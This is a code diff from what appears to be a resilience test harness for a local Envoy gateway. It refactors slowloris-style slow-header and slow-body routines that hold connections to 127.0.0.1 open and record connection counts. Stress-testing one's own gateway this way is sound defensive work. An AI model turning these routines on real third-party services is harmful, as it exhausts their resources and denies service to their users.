@@ -57,16 +57,25 @@ HCM_EDGE_KEYS = (
 
 # ------------------------------------------------------------------------------------ attacker
 
+async def open_counted(port: int, stats: dict):
+    """A connection to Envoy, counted in `stats`; None (after 1 s) when it cannot be opened."""
+    try:
+        conn = await asyncio.open_connection("127.0.0.1", port)
+    except OSError:
+        stats["connect_failed"] += 1
+        await asyncio.sleep(1)
+        return None
+    stats["opened"] += 1
+    return conn
+
+
 async def slow_headers(port: int, interval_s: float, stop: float, stats: dict) -> None:
     """One slowloris connection at a time, reconnecting when Envoy closes it."""
     while time.monotonic() < stop:
-        try:
-            reader, writer = await asyncio.open_connection("127.0.0.1", port)
-        except OSError:
-            stats["connect_failed"] += 1
-            await asyncio.sleep(1)
+        conn = await open_counted(port, stats)
+        if conn is None:
             continue
-        stats["opened"] += 1
+        reader, writer = conn
         try:
             writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: gw\r\n")
             await writer.drain()
@@ -93,13 +102,10 @@ async def slow_body(port: int, key: str, body_bytes: int, attack_s: float, stop:
     chunk = 4096
     delay = attack_s / (body_bytes / chunk)
     while time.monotonic() < stop:
-        try:
-            reader, writer = await asyncio.open_connection("127.0.0.1", port)
-        except OSError:
-            stats["connect_failed"] += 1
-            await asyncio.sleep(1)
+        conn = await open_counted(port, stats)
+        if conn is None:
             continue
-        stats["opened"] += 1
+        reader, writer = conn
         head = ('{"model": "%s", "max_tokens": 4, "messages": [{"role": "user", "content": "' % MODEL).encode()
         body = head + b"a" * (body_bytes - len(head) - 4) + b'"}]}'
         try:
